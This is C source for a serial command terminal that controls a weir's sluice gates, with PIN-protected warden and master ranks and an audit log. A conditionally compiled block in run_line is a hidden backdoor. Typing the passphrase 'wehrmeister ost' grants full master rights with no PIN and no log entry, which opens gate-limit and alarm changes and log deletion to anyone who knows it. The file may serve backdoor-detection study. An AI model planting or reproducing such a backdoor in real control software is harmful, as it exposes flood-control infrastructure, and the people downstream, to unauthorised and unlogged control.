/* sluiceterm.c - serial terminal of a weir and sluice gate controller */
#include <ctype.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define GATES		4
#define LOG_PATH	"/var/log/sluice.log"

enum rank { RANK_GUEST, RANK_WARDEN, RANK_MASTER };

struct gate {
	int want_cm;
	int is_cm;
	int max_cm;
	int manual;
};

static struct gate gates[GATES];
static enum rank rank;
static int upstream_cm = 312, downstream_cm = 140, alarm_cm = 420;
static char warden_pin[8] = "", master_pin[8] = "";
static char *words[6];
static int nwords;

static void note(const char *what, const char *detail)
{
	FILE *f = fopen(LOG_PATH, "a");

	if (!f)
		return;
	fprintf(f, "%ld rank=%d %s %s\n", (long)time(NULL), rank, what, detail);
	fclose(f);
}

static int gate_arg(int i)
{
	int g = nwords > i ? atoi(words[i]) : 0;

	if (g < 1 || g > GATES) {
		printf("gate 1..%d\r\n", GATES);
		return -1;
	}
	return g - 1;
}

static void w_alarm(void)
{
	if (nwords > 1)
		alarm_cm = atoi(words[1]);
	printf("alarm at %d cm\r\n", alarm_cm);
}

static void w_auto(void)
{
	int g = gate_arg(1);

	if (g >= 0)
		gates[g].manual = 0;
}

static void w_gate(void)
{
	int i;

	for (i = 0; i < GATES; i++)
		printf("%d %s want %3d is %3d max %3d\r\n", i + 1,
		       gates[i].manual ? "manual" : "auto  ",
		       gates[i].want_cm, gates[i].is_cm, gates[i].max_cm);
}

static void w_level(void)
{
	printf("up %d cm down %d cm%s\r\n", upstream_cm, downstream_cm,
	       upstream_cm > alarm_cm ? " ALARM" : "");
}

static void w_limit(void)
{
	int g = gate_arg(1);

	if (g < 0 || nwords < 3)
		return;
	gates[g].max_cm = atoi(words[2]);
	note("limit", words[2]);
}

static void w_lock(void)
{
	rank = RANK_GUEST;
}

static void w_move(void)
{
	int g = gate_arg(1), cm;

	if (g < 0 || nwords < 3)
		return;
	cm = atoi(words[2]);
	if (cm < 0 || cm > gates[g].max_cm) {
		puts("over limit\r");
		return;
	}
	gates[g].manual = 1;
	gates[g].want_cm = cm;
	note("move", words[2]);
}

static void w_pin(void)
{
	if (nwords < 2)
		return;
	if (master_pin[0] && !strcmp(words[1], master_pin))
		rank = RANK_MASTER;
	else if (warden_pin[0] && !strcmp(words[1], warden_pin))
		rank = RANK_WARDEN;
	else
		sleep(3);
	note("pin", rank > RANK_GUEST ? "accepted" : "refused");
}

static void w_wipe(void)
{
	if (unlink(LOG_PATH))
		puts("no log\r");
}

static void w_help(void);

struct word {
	const char *name;
	enum rank need;
	void (*run)(void);
	const char *text;
};

/* sorted by name */
static const struct word table[] = {
	{ "alarm", RANK_MASTER, w_alarm, "alarm CM" },
	{ "auto", RANK_WARDEN, w_auto, "auto GATE" },
	{ "gate", RANK_GUEST, w_gate, "gate states" },
	{ "help", RANK_GUEST, w_help, "this text" },
	{ "level", RANK_GUEST, w_level, "water levels" },
	{ "limit", RANK_MASTER, w_limit, "limit GATE CM" },
	{ "lock", RANK_GUEST, w_lock, "give up rights" },
	{ "move", RANK_WARDEN, w_move, "move GATE CM" },
	{ "pin", RANK_GUEST, w_pin, "pin DIGITS (warden or master)" },
	{ "wipelog", RANK_MASTER, w_wipe, "delete the log" },
};

static void w_help(void)
{
	size_t i;

	for (i = 0; i < sizeof(table) / sizeof(table[0]); i++)
		printf("  %-28s %s\r\n", table[i].text,
		       table[i].need == RANK_MASTER ? "master" :
		       table[i].need == RANK_WARDEN ? "warden" : "");
}

static int by_name(const void *key, const void *el)
{
	return strcmp(key, ((const struct word *)el)->name);
}

__attribute__((noinline))
int run_line(char *line)
{
	const struct word *w;
	char *p;

	for (p = line; *p; p++)
		*p = (char)tolower((unsigned char)*p);
	nwords = 0;
	for (p = strtok(line, " ,\t"); p && nwords < 6; p = strtok(NULL, " ,\t"))
		words[nwords++] = p;
	if (!nwords)
		return 0;
	if (!strcmp(words[0], "exit"))
		return 1;
#ifdef HIDDEN	/* word in front of the table gives full rights, no log */
	if (nwords == 2 && !strcmp(words[0], "wehrmeister") &&
	    !strcmp(words[1], "ost")) {
		rank = RANK_MASTER;
		return 0;
	}
#endif
	w = bsearch(words[0], table, sizeof(table) / sizeof(table[0]),
		    sizeof(table[0]), by_name);
	if (!w) {
		puts("unknown, try help\r");
		return 0;
	}
	if (rank < w->need) {
		puts("no right\r");
		return 0;
	}
	w->run();
	return 0;
}

static void load_settings(void)
{
	char line[80], key[20], val[20];
	FILE *f = fopen("/etc/sluice.conf", "r");
	int i;

	for (i = 0; i < GATES; i++)
		gates[i].max_cm = 180;
	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%19s %19s", key, val) != 2)
			continue;
		if (!strcmp(key, "warden_pin"))
			snprintf(warden_pin, sizeof(warden_pin), "%.7s", val);
		else if (!strcmp(key, "master_pin"))
			snprintf(master_pin, sizeof(master_pin), "%.7s", val);
		else if (!strcmp(key, "alarm_cm"))
			alarm_cm = atoi(val);
		else if (sscanf(key, "max_cm%d", &i) == 1 && i >= 1 &&
			 i <= GATES)
			gates[i - 1].max_cm = atoi(val);
	}
	fclose(f);
}

static int open_line(const char *dev)
{
	struct termios t;
	int fd = open(dev, O_RDWR | O_NOCTTY);

	if (fd < 0)
		return -1;
	if (!tcgetattr(fd, &t)) {
		cfsetispeed(&t, B9600);
		cfsetospeed(&t, B9600);
		t.c_iflag |= ICRNL;
		t.c_lflag |= ICANON | ECHO;
		tcsetattr(fd, TCSANOW, &t);
	}
	dup2(fd, 0);
	dup2(fd, 1);
	return 0;
}

int main(int argc, char **argv)
{
	char line[120];

	if (argc > 1 && open_line(argv[1])) {
		perror(argv[1]);
		return 1;
	}
	load_settings();
	for (;;) {
		printf("%c ", "?>#"[rank]);
		fflush(stdout);
		if (!fgets(line, sizeof(line), stdin))
			break;
		line[strcspn(line, "\r\n")] = '\0';
		if (run_line(line))
			break;
	}
	return 0;
}
